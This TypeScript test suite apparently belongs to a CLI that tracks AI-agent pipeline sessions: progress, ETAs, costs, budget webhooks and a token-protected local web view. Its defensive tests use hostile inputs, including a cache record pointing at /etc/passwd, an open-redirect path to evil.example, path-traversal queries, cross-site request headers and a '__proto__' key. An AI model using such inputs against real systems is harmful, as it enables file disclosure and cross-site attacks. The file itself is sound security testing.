      const row = rowOf((await listJson(root)).sessions, 'plan')
      return row.iteration_completed === 2 && row.health === 'running' ? row : null
    })
    expect(voted.stop_rule).toMatchObject({ type: 'judgment', min_iterations: 2, consensus: 2, stop_votes: 1 })
    expect(voted.stop_rule!.text).toContain('— 1 so far —')
    expect(voted.progress).toEqual({ done: 2, total: 6 })
    expect(voted.iteration_seconds).toMatchObject({ count: 2 })
    // The earliest stop is the next iteration; the latest, four more.
    const eta = voted.eta!
    expect(eta.low_seconds).toBeLessThan(eta.high_seconds)
    expect(eta.basis).toMatch(/^1–4 iterations left at a median of \d+s each; the fewest if/)
    const ended = await waitFor('the consensus', async () => {
      const row = rowOf((await listJson(root)).sessions, 'plan')
      return row.health === 'complete' ? row : null
    })
    expect(ended).toMatchObject({ iteration_completed: 3, progress: { done: 3, total: 3 }, eta: null })
    expect(ended.stop_rule?.stop_votes).toBe(2)
    const status = await cli(['status', 'plan', '-C', root], { columns: 80 })
    expect(status.stdout).toMatch(/\nCourse\n {2}stops {7}stops when the judge and 2 agents in a row find it has stopped\n/)
    expect(status.stdout).toContain('  done        [####################] 3 of 3 iterations\n')
    expect(JSON.parse((await cli(['status', 'plan', '--json', '-C', root])).stdout).completion_reason).toBe(
      'Consensus reached: 2 consecutive agents agree to stop',
    )
    // Its events: each iteration with its decision and the course it left; the first stop vote as news.
    const told = (await cli(['events', 'plan', '--json', '-C', root])).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(told.map((e) => [e.event, e.iteration, e.decision, e.stop_votes, e.progress?.done ?? null])).toEqual([
      ['started', null, null, null, null],
      ['iteration', 1, 'continue', 0, 1],
      ['iteration', 2, 'stop', 1, 2],
      ['stopping', 2, null, null, null],
      ['iteration', 3, 'stop', 2, 3],
      ['complete', 3, null, null, null],
    ])
    expect(told[0].why).toBe('improve-plan loop, max 6')
    expect(told[3].why).toBe('1 of 2 agents judge it done')
    // The ETA as each iteration left it: after iteration 2, the earliest stop was the next.
    expect(told[2].eta).toMatchObject({ basis: expect.stringMatching(/^1–4 iterations left/) })
  })

  test('a pipeline past its stage switch: the new stage’s counts, the whole run’s progress, an ENDS column that fits', async () => {
    const root = await makeEngineProject()
    writeFileSync(
      path.join(root, 'scripts', 'pipelines', 'long.yaml'),
      'name: long\nnodes:\n  - id: plan\n    stage: improve-plan\n    runs: 4\n\n  - id: tasks\n    stage: ralph\n    runs: 3\n',
    )
    // The plan stage stops after 2 of its 4 (two agents say stop); the tasks stage runs its 3.
    await startOk(['start', 'pipeline', 'long.yaml', 'docs', '--yes', '-C', root], {
      env: { MOCK_PACE: '1.5', MOCK_DECISIONS: 'stop,stop' },
    })
    const seen: string[] = []
    const second = await waitFor('the second stage, one iteration in', async () => {
      const row = rowOf((await listJson(root)).sessions, 'docs')
      seen.push(`${row.stage_index}:${row.iteration_completed}/${row.max_iterations}`)
      return row.stage_index === 1 && row.iteration_completed === 1 ? row : null
    })
    // Never the plan stage's count under the tasks stage's name.
    expect(
      seen.filter((s) => s.startsWith('1:')).every((s) => /^1:[01]\/3$/.test(s)),
      seen.join(' '),
    ).toBe(true)
    expect(second).toMatchObject({ stage_name: 'tasks', max_iterations: 3, progress: { done: 3, total: 5 } })
    expect(second.stop_rule).toMatchObject({ type: 'fixed', stop_votes: null })
    expect(second.eta!.basis).toMatch(/^2 iterations left at a median of \d+s each$/)
    const started = JSON.parse((await cli(['events', 'docs', '--json', '-C', root])).stdout.split('\n')[0])
    expect(started).toMatchObject({ event: 'started', why: 'pipeline long: plan × 4, tasks × 3' })
    const wide = await cli(['list', '-C', root], { columns: 120 })
    expect(wide.stdout).toMatch(/ {2}ENDS\n/)
    expect(wide.stdout).toMatch(/\n(docs .*)\s(~\d+m|<1m)\n/)
    // Where it does not fit whole, no ENDS column, and nothing wider than the terminal.
    const narrow = await cli(['list', '-C', root], { columns: 44 })
    expect(narrow.stdout).not.toContain('ENDS')
    // (The table's lines: a command to copy below it is never broken.)
    for (const line of narrow.stdout.split('\n').filter((l) => /^(NAME|docs) /.test(l))) expect(line.length).toBeLessThanOrEqual(44)
  })

  test('a queue stage: its tasks from bd, asked once per look; emptied, the stage stops', async () => {
    const root = await makeEngineProject()
    mkdirSync(path.join(root, 'scripts', 'stages', 'tasks'))
    writeFileSync(path.join(root, 'scripts', 'stages', 'tasks', 'stage.yaml'), 'name: tasks\ntermination:\n  type: queue\n')
    const data = path.join(BASE, `queue-${++projects}.json`)
    const log = path.join(BASE, `queue-${projects}.log`)
    const beads = [1, 2, 3].map((n) => ({ id: `bd-${n}`, title: `task ${n}`, status: n === 1 ? 'closed' : 'open', labels: ['pipeline/q'] }))
    writeFileSync(data, JSON.stringify(beads))
    const env = { PATH: `${path.join(HERE, 'fixtures', 'bd')}:${process.env.PATH}`, BD_DATA: data, BD_LOG: log }
    // The engine asks bd too (its own queue check): it writes to a log of its own.
    await startOk(['start', 'tasks', 'q', '8', '--yes', '-C', root], { env: { ...env, BD_LOG: `${log}.engine`, MOCK_PACE: '1.5' } })
    const look = async () => rowOf(JSON.parse((await cli(['list', '--json', '-C', root], { env })).stdout).sessions, 'q')
    const running = await waitFor('an iteration done', async () => {
      const row = await look()
      return row.iteration_completed === 1 ? row : null
    })
    expect(running.stop_rule).toMatchObject({ type: 'queue', stop_votes: null })
    expect(running.stop_rule!.text).toBe(
      'stops when no task labelled pipeline/q is ready (2 tasks left), or when an agent reports an error, at the latest after 8 iterations',
    )
    // One task closed in one iteration: the two left take two more.
    expect(running.eta).toMatchObject({ low_seconds: running.eta!.high_seconds })
    expect(running.eta!.basis).toMatch(/^2 iterations left at a median of \d+s each; 2 tasks left$/)
    writeFileSync(log, '')
    await look()
    expect(readFileSync(log, 'utf8')).toBe('list --json\n')
    // The agents close the rest: at its next check the queue is empty.
    writeFileSync(data, JSON.stringify(beads.map((bead) => ({ ...bead, status: 'closed' }))))
    const done = await waitFor('the queue empty', async () => {
      const row = await look()
      return row.health === 'complete' ? row : null
    })
    expect(done.iteration_completed).toBeLessThan(8)
    // Its events, with bd asked once for the look: the newest iteration's end reckoned on the empty queue.
    writeFileSync(log, '')
    const told = (await cli(['events', 'q', '--json', '-C', root], { env })).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(readFileSync(log, 'utf8')).toBe('list --json\n')
    expect(told.filter((e) => e.event === 'iteration').at(-1).eta).toMatchObject({
      low_seconds: 0,
      high_seconds: 0,
      basis: expect.stringMatching(/; 0 tasks left$/),
    })
    expect(JSON.parse((await cli(['status', 'q', '--json', '-C', root], { env })).stdout).completion_reason).toBe('All beads complete')
  })

  test('the reference layouts: a course that adds up for each, an end only for what runs', async () => {
    const rows: SessionRow[] = []
    for (const fixture of readdirSync(LAYOUTS).filter((entry) => existsSync(path.join(LAYOUTS, entry, 'FACTS.json')))) {
      const root = await makeProject(fixture)
      for (const row of (await listJson(root)).sessions) {
        rows.push(row)
        const where = `${fixture}/${row.name}`
        if (row.progress?.total != null) expect(row.progress.done, where).toBeLessThanOrEqual(row.progress.total)
        if (row.eta) expect(row.health, where).toBe('running')
        if (row.stop_rule) expect(['fixed', 'judgment', 'queue'], where).toContain(row.stop_rule.type)
      }
    }
    expect(rowOf(rows, 'multi').progress?.done).toBeGreaterThan(0)
  })
})

describe("what each session costs, from the agents' own transcripts", () => {
  const TRANSCRIPTS = path.join(HERE, 'fixtures', 'transcripts')
  // ccusage's native binary (an optional dependency, for Linux x64: the registry serves no other platform's
  // build of this version here); run from a copy in the tests' folder, made executable there.
  const CCUSAGE = path.join(HERE, 'node_modules', '@ccusage', 'ccusage-linux-x64', 'bin', 'ccusage')
  /** The fixture's transcript ids (file names), by whose they are. */
  const ID = {
    alpha1: '0b1d8f52-5a4c-4c11-9a0e-1f6a8d7c0a01',
    alpha2: '0b1d8f52-5a4c-4c11-9a0e-1f6a8d7c0a02',
    beta1: '6c2e9b1a-3d4f-4e5a-8b7c-2d1e0f9a0b01',
    betaClaude: '6c2e9b1a-3d4f-4e5a-8b7c-2d1e0f9a0b02',
    betaCodex: '019e3bb1-e75b-7423-b373-f8b8d573b201',
    judgeBeta: '9a8b7c6d-0000-4e5a-8b7c-2d1e0f9a0c01',
    judgeOfTwo: '9a8b7c6d-0000-4e5a-8b7c-2d1e0f9a0c02',
  }

  /**
   * Three sessions of one project that ran at the same time (alpha, resumed; beta, a judgment stage then
   * a parallel block of claude and codex; gamma, whose judge overlapped beta's), and their agents'
   * transcripts in their own homes, with the project's real path where the engine's prompts name it.
   */
  function costProject() {
    const root = path.join(BASE, `cost-${++projects}`)
    cpSync(path.join(TRANSCRIPTS, 'project'), root, { recursive: true })
    const claude = path.join(BASE, `claude-${projects}`)
    const codex = path.join(BASE, `codex-${projects}`)
    const folder = path.join(claude, 'projects', root.replace(/[^a-zA-Z0-9]/g, '-'))
    cpSync(path.join(TRANSCRIPTS, 'claude'), folder, { recursive: true })
    cpSync(path.join(TRANSCRIPTS, 'codex'), codex, { recursive: true })
    for (const dir of [folder, codex])
      for (const file of readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.jsonl')))
        writeFileSync(path.join(dir, file), readFileSync(path.join(dir, file), 'utf8').replaceAll('@ROOT@', root))
    return {
      root,
      folder,
      codexDay: path.join(codex, 'sessions', '2026', '12', '01'),
      env: { CLAUDE_CONFIG_DIR: claude, CODEX_HOME: codex },
    }
  }

  async function usages(root: string, env: NodeJS.ProcessEnv) {
    const run = await cli(['list', '--json', '-C', root], { env })
    expect(run.code, run.stderr).toBe(0)
    return JSON.parse(run.stdout) as ListResult
  }

  /** ccusage's report of the same transcripts, offline (its own prices), by transcript id. */
  function ccusage(env: NodeJS.ProcessEnv) {
    const home = mkdtempSync(path.join(BASE, 'ccusage-home-'))
    const binary = path.join(home, 'ccusage')
    cpSync(CCUSAGE, binary)
    chmodSync(binary, 0o755)
    const report = (args: string[]) => {
      const result = spawnSync(binary, [...args, '--json', '--offline'], {
        cwd: home,
        env: { PATH: ENV.PATH, HOME: home, ...env },
        encoding: 'utf8',
      })
      expect(result.status, result.stderr).toBe(0)
      return JSON.parse(result.stdout).sessions as Record<string, unknown>[]
    }
    const sessions = new Map<string, { tokens: number[]; cost: number }>()
    for (const s of report(['claude', 'session', '--mode', 'calculate']))
      sessions.set(String(s.sessionId), {
        tokens: [s.inputTokens, s.outputTokens, s.cacheCreationTokens, s.cacheReadTokens] as number[],
        cost: s.totalCost as number,
      })
    for (const s of report(['codex', 'session', '--speed', 'standard']))
      sessions.set(
        String(s.sessionId)
          .replace(/.*-(?=[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$)/, '')
          .replace(/^rollout-.*?-(?=[0-9a-f]{8}-)/, ''),
        {
          tokens: [s.inputTokens, s.outputTokens, s.cacheCreationTokens, s.cacheReadTokens] as number[],
          cost: s.costUSD as number,
        },
      )
    return sessions
  }

  function expectSameAs(usage: UsageTotals | null | undefined, reference: Map<string, { tokens: number[]; cost: number }>, ids: string[]) {
    const found = ids.map((id) => {
      const one = [...reference].find(([key]) => key.endsWith(id))
      expect(one, `ccusage reports ${id}`).toBeDefined()
      return one![1]
    })
    const sum = (i: number) => found.reduce((all, one) => all + one.tokens[i], 0)
    expect([usage?.input_tokens, usage?.output_tokens, usage?.cache_creation_input_tokens, usage?.cache_read_input_tokens]).toEqual(
      [0, 1, 2, 3].map(sum),
    )
    const cost = found.reduce((all, one) => all + one.cost, 0)
    expect(Math.abs((usage?.cost_usd ?? Number.NaN) - cost)).toBeLessThanOrEqual(cost * 0.01)
  }

  test.skipIf(!existsSync(CCUSAGE))(
    'two sessions at once, a resumed one, a parallel block of both agents, judges: each counted as ccusage counts it, none guessed',
    async () => {
      const { root, env } = costProject()
      const reference = ccusage(env)
      const listed = await usages(root, env)
      const alpha = rowOf(listed.sessions, 'alpha').usage
      const beta = rowOf(listed.sessions, 'beta').usage
      // alpha's two iterations, one before and one after its resume; a streamed message counted once, at its largest.
      expectSameAs(alpha, reference, [ID.alpha1, ID.alpha2])
      expect(alpha).toMatchObject({ iterations_counted: 2, iterations_missing: 0, transcripts: 2, judge_calls: 0, lines_skipped: 0 })
      // beta: its judgment stage (with a subagent's transcript), its judge's call within its window alone,
      // and its parallel block's claude and codex providers.
      expectSameAs(beta, reference, [ID.beta1, ID.betaClaude, ID.judgeBeta, ID.betaCodex])
      expect(beta).toMatchObject({ iterations_counted: 3, judge_calls: 1, prices: expect.stringMatching(/^built-in \d{4}-\d\d-\d\d$/) })
      expect(beta?.models).toEqual(['claude-haiku-4-5-20251001', 'claude-opus-4-5-20251101', 'claude-sonnet-4-5-20250929', 'gpt-5.1-codex'])
      // gamma ran two iterations elsewhere: nothing found is said as nothing, never as zero.
      expect(rowOf(listed.sessions, 'gamma').usage).toMatchObject({
        input_tokens: null,
        cost_usd: null,
        iterations_counted: 0,
        iterations_missing: 2,
      })
      // The judge call that beta's and gamma's judges could both have made is the project's, not a session's.
      expectSameAs(listed.usage_unattributed, reference, [ID.judgeOfTwo])
      // An interactive session, another project's iteration (Claude Code and Codex): in no usage.
      const all = listed.sessions.reduce((n, row) => n + (row.usage?.transcripts ?? 0), 0)
      expect(all + (listed.usage_unattributed?.transcripts ?? 0)).toBe(8)

      const status = await cli(['status', 'beta', '--json', '-C', root], { env })
      const detail = JSON.parse(status.stdout) as StatusResult
      expect(detail.by_stage.map((one) => [one.stage_index, one.stage, one.transcripts])).toEqual([
        [0, 'improve-plan', 3],
        [1, 'review', 2],
      ])
      expect(detail.by_iteration.map((one) => [one.stage, one.provider, one.iteration, one.judge_calls])).toEqual([
        ['improve-plan', null, 1, 1],
        ['review', 'claude', 1, 0],
        ['review', 'codex', 1, 0],
      ])
      const text = await cli(['status', 'beta', '-C', root], { env, columns: 80 })
      expect(text.stdout).toMatch(/Cost\n {2}cost +\$0\.39 · 375k tokens/)
    },
  )

  test('cost: by session, stage, iteration, day and model, totals last, at 80 columns; kept when the agent deletes its transcripts', async () => {
    const { root, folder, env } = costProject()
    const bySession = JSON.parse((await cli(['cost', '--json', '-C', root], { env })).stdout) as CostResult
    expect(bySession.lines.map((line) => [line.label, line.transcripts])).toEqual([
      ['alpha', 2],
      ['beta', 5],
      ['judge calls of several sessions', 1],
    ])
    const byModel = JSON.parse((await cli(['cost', '--by', 'model', '--json', '-C', root], { env })).stdout) as CostResult
    // However it is cut, the total is the same.
    expect(byModel.total).toEqual(bySession.total)
    expect(byModel.lines.reduce((all, line) => all + (line.cost_usd ?? 0), 0)).toBeCloseTo(bySession.total.cost_usd!, 5)
    const byDay = JSON.parse((await cli(['cost', 'alpha', '--by', 'day', '--json', '-C', root], { env })).stdout) as CostResult
    expect(byDay.lines.map((line) => line.label)).toEqual([
      new Date(Date.parse('2026-12-01T10:00:05Z') - new Date('2026-12-01T10:00:05Z').getTimezoneOffset() * 60_000)
        .toISOString()
        .slice(0, 10),
    ])
    const since = JSON.parse((await cli(['cost', '--since', '2026-12-01T10:39:00Z', '--json', '-C', root], { env })).stdout) as CostResult
    expect(since.lines.map((line) => line.label)).toEqual(['alpha', 'beta', 'judge calls of several sessions'])
    expect(since.lines[0].transcripts).toBe(1)
    for (const by of ['session', 'stage', 'iteration', 'day', 'model']) {
      const shown = await cli(['cost', '--by', by, '-C', root], { env, columns: 80 })
      expect(shown.code).toBe(0)
      expect(shown.stdout.split('\n').filter((line) => line.length > 80)).toEqual([])
      expect(shown.stdout).toMatch(/^total +\S/m)
    }
    // Claude Code deletes a transcript after a month: what it counted stays.
    rmSync(path.join(folder, `${ID.alpha1}.jsonl`))
    const after = rowOf((await usages(root, env)).sessions, 'alpha').usage
    expect(after).toMatchObject({ transcripts: 2, transcripts_gone: 1, input_tokens: 20, output_tokens: 1488 })
    // A transcript that grows is read on from where the last look stopped.
    appendFileSync(
      path.join(folder, `${ID.alpha2}.jsonl`),
      `${JSON.stringify({ type: 'assistant', sessionId: ID.alpha2, requestId: 'req_more', timestamp: '2026-12-01T10:40:30.000Z', message: { id: 'msg_more', model: 'claude-opus-4-5-20251101', usage: { input_tokens: 7, output_tokens: 11 } } })}\n`,
    )
    expect(rowOf((await usages(root, env)).sessions, 'alpha').usage).toMatchObject({ input_tokens: 27, output_tokens: 1499 })
    expect((await cli(['cost', '--by', 'week', '-C', root], { env })).code).toBe(2)
    expect((await cli(['cost', 'nope', '-C', root], { env })).stderr).toMatch(/no session nope/)
  })

  test('budgets: over_budget through a loopback webhook, once a session and budget, across restarts; a bad budget changes nothing', async () => {
    const { root, folder, env } = costProject()
    const hook = await hookServer()
    const alphaFile = path.join(folder, `${ID.alpha2}.jsonl`)
    const betaFile = path.join(folder, `${ID.beta1}.jsonl`)
    const spend = (file: string, outputTokens: number) =>
      appendFileSync(
        file,
        `${JSON.stringify({ type: 'assistant', sessionId: 'x', requestId: randomUUID(), timestamp: '2026-12-01T10:40:40.000Z', message: { id: randomUUID(), model: 'claude-opus-4-5-20251101', usage: { input_tokens: 1, output_tokens: outputTokens } } })}\n`,
      )
    // The watcher has read a transcript to its end: a look after the last append has been made.
    const counted = (file: string) => () => {
      const cache = path.join(root, '.claude', 'sessions-usage.json')
      if (!existsSync(cache)) return false
      const record = JSON.parse(readFileSync(cache, 'utf8')).records.find((one: { file: string }) => one.file === file)
      return record?.offset === statSync(file).size
    }
    const settled = async () => {
      for (const n of [1, 2]) {
        spend(betaFile, 1)
        await waitFor(`look ${n} after the news`, counted(betaFile))
      }
    }
    const overBudget = () => hook.received.map((r) => r.event).filter((event) => event.event === 'over_budget')
    for (const bad of [
      ['--budget', '0'],
      ['--budget', 'ten'],
      ['--project-budget', '-3'],
      ['--on', 'over_budget'],
    ]) {
      const run = await cli(['notify', '--exec', 'true', ...bad, '-C', root], { env })
      expect([run.code, run.stderr], bad.join(' ')).toEqual([2, expect.stringMatching(/^sessions: .*(budget|dollars).*\n$/)])
    }
    expect(existsSync(path.join(root, '.claude', 'sessions-notify.json'))).toBe(false)

    // alpha $0.09, beta $0.39, all $0.49: beta is over $0.20 already, and a first look says so.
    const budgets = ['--budget', '0.2', '--project-budget', '$1']
    const first = watcher(['--webhook', hook.url, ...budgets, '--interval', '0.2', '-C', root], env)
    await waitFor("beta's budget", () => overBudget().length === 1)
    expect(overBudget()[0]).toMatchObject({ session: 'beta', cost_usd: expect.closeTo(0.389, 3), budget_usd: 0.2, late: false })
    expect(hook.received[0].text).toMatch(/^beta is over its budget in .*: \$0\.39 spent, budget \$0\.20 \(prices: built-in /)
    expect((await usages(root, env)).watcher?.budgets).toEqual({ session_usd: 0.2, project_usd: 1 })
    // alpha's agent spends $0.75 more: alpha is over, and so is the project, each once.
    spend(alphaFile, 30_000)
    await waitFor('alpha and the project', () => overBudget().length === 3)
    await settled()
    expect(overBudget().map((event) => [event.session, event.budget_usd])).toEqual([
      ['beta', 0.2],
      ['alpha', 0.2],
      [null, 1],
    ])
    expect(overBudget()[2]).toMatchObject({ health: null, cost_usd: expect.closeTo(1.236, 3) })
    expect(hook.received[2].text).toMatch(/^the sessions of .* are over their budget: \$1\.24 spent, budget \$1\.00/)
    expect(await first.stop()).toBe(0)
    // events shows them after the watcher, the project's own only when no session is named.
    const shown = async (...names: string[]) =>
      (await cli(['events', ...names, '--json', '-C', root], { env })).stdout
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line))
        .filter((event) => event.event === 'over_budget')
        .map((event) => [event.session, event.budget_usd])
    expect(await shown()).toEqual([
      ['beta', 0.2],
      ['alpha', 0.2],
      [null, 1],
    ])
    expect(await shown('alpha')).toEqual([['alpha', 0.2]])
    // A watcher started again with the same budgets reports none of them again, even once its log (the
    // newest 1,000 events) has moved past them; a higher budget is news of its own.
    const recordFile = path.join(root, '.claude', 'sessions-notify.json')
    writeFileSync(recordFile, JSON.stringify({ ...JSON.parse(readFileSync(recordFile, 'utf8')), log: [] }))
    const second = watcher(['--webhook', hook.url, '--budget', '0.5', '--project-budget', '1', '--interval', '0.2', '-C', root], env)
    await waitFor('alpha over $0.50', () => overBudget().length === 4)
    await settled()
    expect(overBudget().map((event) => [event.session, event.budget_usd])).toEqual([
      ['beta', 0.2],
      ['alpha', 0.2],
      [null, 1],
      ['alpha', 0.5],
    ])
    expect(await second.stop()).toBe(0)
  })

  test('hostile transcripts: bad lines skipped and counted, a huge line, links, another project, __proto__, a bad cache or price file', async () => {
    const { root, folder, codexDay, env } = costProject()
    const context = `${root}/.claude/pipeline-runs/gamma/stage-00-improve-plan/iterations/001/context.json`
    const line = (usage: unknown, model = 'claude-sonnet-4-6', id = randomUUID()) =>
      JSON.stringify({
        type: 'assistant',
        sessionId: 'h',
        requestId: id,
        timestamp: '2026-12-01T10:35:01.000Z',
        message: { id, model, usage },
      })
    writeFileSync(
      path.join(folder, 'hostile.jsonl'),
      [
        JSON.stringify({
          type: 'user',
          sessionId: 'h',
          timestamp: '2026-12-01T10:35:00.000Z',
          message: { role: 'user', content: `Read context from: ${context}` },
        }),
        '{"type":"assistant","message":{"usage":', // not JSON (a truncated line)
        line({ input_tokens: -5, output_tokens: 1 }),
        line({ input_tokens: '12', output_tokens: 1 }),
        '{"type":"assistant","requestId":"r","message":{"id":"m","model":"claude-sonnet-4-6","usage":{"input_tokens":1e400,"output_tokens":1}}}',
        `{"type":"assistant","requestId":"big","message":{"id":"big","model":"claude-sonnet-4-6","usage":{"input_tokens":1,"output_tokens":1}},"pad":"${'x'.repeat(5 * 1024 * 1024)}"}`,
        line({ input_tokens: 100, output_tokens: 10 }, '__proto__'),
        line({ input_tokens: 1000, output_tokens: 100 }),
        '',
      ].join('\n'),
    )
    // A folder linked into the agent's folder, a FIFO named like a transcript: neither is read.
    const elsewhere = path.join(BASE, `elsewhere-${projects}`)
    mkdirSync(elsewhere)
    writeFileSync(path.join(elsewhere, 'linked.jsonl'), readFileSync(path.join(folder, 'hostile.jsonl')))
    symlinkSync(elsewhere, path.join(folder, 'linked'))
    symlinkSync(path.join(elsewhere, 'linked.jsonl'), path.join(folder, 'linked-file.jsonl'))
    execFileSync('mkfifo', [path.join(codexDay, 'rollout-fifo.jsonl')])
    const gamma = rowOf((await usages(root, env)).sessions, 'gamma').usage
    expect(gamma).toMatchObject({
      input_tokens: 1100,
      output_tokens: 110,
      lines_skipped: 5,
      cost_usd: null,
      unpriced_models: ['__proto__'],
    })
    // A price for it in the config folder: then priced, and the cost says where its prices come from.
    const prices = path.join(env.CLAUDE_CONFIG_DIR, '..', 'config', 'sessions-ts')
    mkdirSync(prices, { recursive: true })
    writeFileSync(path.join(prices, 'prices.json'), '{"date": "2027-01-15", "models": {"__proto__": {"input": 1, "output": 2}}}')
    const priced = rowOf((await usages(root, { ...env, XDG_CONFIG_HOME: path.dirname(prices) })).sessions, 'gamma').usage
    expect(priced?.cost_usd).toBeCloseTo((1000 * 3 + 100 * 15 + 100 * 1 + 10 * 2) / 1e6, 9)
    expect(priced?.prices).toBe('prices.json 2027-01-15 over built-in 2026-12-01')
    writeFileSync(path.join(prices, 'prices.json'), '{"models": {"x": {"input": -1}}}')
    const bad = await cli(['cost', '-C', root], { env: { ...env, XDG_CONFIG_HOME: path.dirname(prices) } })
    expect(bad.stdout).toMatch(/prices\.json: .*the built-in prices are used/s)
    // A cache that is not JSON, or names a file outside the agents' folders, is started afresh.
    const cache = path.join(root, '.claude', 'sessions-usage.json')
    const kept = JSON.parse(readFileSync(cache, 'utf8'))
    kept.records.push({
      ...kept.records[0],
      file: '/etc/passwd',
      owner: { kind: 'iteration', session: 'alpha', stage_index: 0, stage: 'x', provider: null, iteration: 9 },
    })
    writeFileSync(cache, JSON.stringify(kept))
    expect(rowOf((await usages(root, env)).sessions, 'alpha').usage?.transcripts).toBe(2)
    writeFileSync(cache, '{"version":1,"rec')
    expect(rowOf((await usages(root, env)).sessions, 'alpha').usage?.transcripts).toBe(2)
    // A cache linked elsewhere is never written through.
    rmSync(cache)
    symlinkSync(path.join(elsewhere, 'linked.jsonl'), cache)
    const before = readFileSync(path.join(elsewhere, 'linked.jsonl'), 'utf8')
    expect(rowOf((await usages(root, env)).sessions, 'alpha').usage?.transcripts).toBe(2)
    expect(readFileSync(path.join(elsewhere, 'linked.jsonl'), 'utf8')).toBe(before)
  })
})

describe('serve: the fleet in a browser, safe by default', () => {
  const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((file) => existsSync(file))
  /** Screenshots of the page (phone and desktop), kept after the run. */
  const SHOTS = path.join(HERE, 'test-artifacts')

  /** One HTTP request as a browser or an attacker would send it (any Host, any Origin), and its whole answer. */
  function http(port: number, route: string, options: { method?: string; headers?: Record<string, string> } = {}) {
    return new Promise<{ status: number; headers: IncomingHttpHeaders; body: string }>((resolve, reject) => {
      // A connection of its own each time (no agent): a server closed and started again is asked afresh.
      const request = httpRequest({
        host: '127.0.0.1',
        port,
        path: route,
        method: options.method ?? 'GET',
        headers: options.headers,
        agent: false,
      })
      request.on('response', (response) => {
        let body = ''
        response.setEncoding('utf8')
        // A stream answers at once with its headers and a first line: enough to know it was let in.
        if (String(response.headers['content-type']).startsWith('text/event-stream')) {
          response.once('data', (chunk) => {
            resolve({ status: response.statusCode!, headers: response.headers, body: chunk })
            request.destroy()
          })
          return
        }
        response.on('data', (chunk) => {
          body += chunk
        })
        response.on('end', () => resolve({ status: response.statusCode!, headers: response.headers, body }))
      })
      request.on('error', reject)
      request.end()
    })
  }

  /** The cookie the token gives (Cookie header form), and the page's CSRF value. */
  async function logIn(server: WebServer) {
    const exchanged = await http(server.port, new URL(server.url).pathname + new URL(server.url).search)
    const cookie = exchanged.headers['set-cookie']![0].split(';')[0]
    const page = await http(server.port, '/', { headers: { cookie } })
    return { cookie, csrf: /data-csrf="([^"]+)"/.exec(page.body)![1] }
  }

  test('without the token nothing answers; the token becomes a cookie and leaves the address bar; the page runs only its own script', async () => {
    const root = await makeProject('crashed-loop')
    const server = await serve({ root, port: undefined })
    try {
      const { port } = server
      const token = new URL(server.url).searchParams.get('token')!
      expect(server.url).toBe(`http://127.0.0.1:${port}/?token=${token}`)
      const routes = [
        'GET /',
        'GET /session?name=busy',
        'GET /api/fleet',
        'GET /api/session?name=busy',
        'GET /api/stream',
        'POST /api/kill?name=busy',
        'GET /favicon.ico',
      ]
      for (const route of routes) {
        const [method, where] = route.split(' ')
        expect((await http(port, where, { method })).status, route).toBe(401)
      }
      expect((await http(port, '/?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')).status).toBe(401)
      // The address it sends the browser on to is this server's, whatever the path looked like.
      expect((await http(port, `/.//evil.example/x?token=${token}`)).body).toContain('url=/evil.example/x"')
      // A page of its own, not a redirect: followed from another site, a redirect would stay cross-site
      // and the Strict cookie would not be sent with it.
      const exchanged = await http(port, `/session?name=busy&token=${token}`)
      expect(exchanged.status).toBe(200)
      expect(exchanged.body).toBe('<!doctype html><meta http-equiv="refresh" content="0; url=/session?name=busy">\n')
      expect(exchanged.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'")
      const set = exchanged.headers['set-cookie']![0]
      expect(set).toMatch(new RegExp(`^sessions_${port}=[A-Za-z0-9_-]{43}; HttpOnly; SameSite=Strict; Path=/$`))
      expect(set).not.toContain(token)
      const cookie = set.split(';')[0]
      const page = await http(port, '/', { headers: { cookie } })
      expect(page.status).toBe(200)
      const policy = String(page.headers['content-security-policy'])
      const nonce = /script-src 'nonce-([A-Za-z0-9+/=]+)'/.exec(policy)![1]
      expect(policy).toMatch(/^default-src 'none'; /)
      expect(policy).not.toMatch(/unsafe|\*|http/)
      expect([...page.body.matchAll(/<script([^>]*)>/g)].map((m) => m[1])).toEqual([` nonce="${nonce}"`])
      // Nothing fetched from anywhere (the one URL in it is SVG's namespace, a name, not an address).
      expect(page.body.replaceAll("'http://www.w3.org/2000/svg'", '')).not.toMatch(/https?:|src=|url\(|@import/)
      // A new nonce for every answer.
      expect((await http(port, '/', { headers: { cookie } })).headers['content-security-policy']).not.toBe(policy)
      expect(page.headers['access-control-allow-origin']).toBeUndefined()
      expect(page.headers['referrer-policy']).toBe('no-referrer')
      // What a page of another port or site makes the browser ask, cookie and all, is refused; a cookie of
      // the same name set first by another port's server does not shut the user out.
      for (const from of ['same-site', 'cross-site'])
        expect((await http(port, '/api/fleet', { headers: { cookie, 'sec-fetch-site': from } })).status, from).toBe(403)
      for (const from of ['same-origin', 'none'])
        expect((await http(port, '/api/fleet', { headers: { cookie, 'sec-fetch-site': from } })).status, from).toBe(200)
      const tossed = `sessions_${port}=tossed; ${cookie}`
      expect((await http(port, '/api/fleet', { headers: { cookie: tossed } })).status).toBe(200)
      const fleet = JSON.parse((await http(port, '/api/fleet', { headers: { cookie } })).body)
      expect(fleet.sessions.map((s: SessionRow) => [s.name, s.health])).toEqual([['busy', 'crashed']])
      const stream = await http(port, '/api/stream', { headers: { cookie } })
      // Its first line, and (the fleet just looked at) that look at once.
      expect(stream.status).toBe(200)
      expect(stream.body).toMatch(/^retry: 2000\n\n(event: hello\ndata: \{.*\}\n\n)?$/s)
      // A session outside the view (another project's path, a name it does not show) is not looked at.
      const other = await makeProject('complete-loop')
      for (const query of [`name=done-loop&project=${encodeURIComponent(other)}`, 'name=nobody', 'name=busy&project=%2Fetc'])
        expect((await http(port, `/api/session?${query}`, { headers: { cookie } })).status, query).toBe(404)
      expect((await http(port, '/api/session?name=busy', { headers: { cookie } })).status).toBe(200)
    } finally {
      await server.close()
    }
  })

  test('only loopback and --allow-host names are answered (DNS rebinding); actions only with --allow-actions, same-origin and the CSRF value', async () => {
    const root = await makeEngineProject()
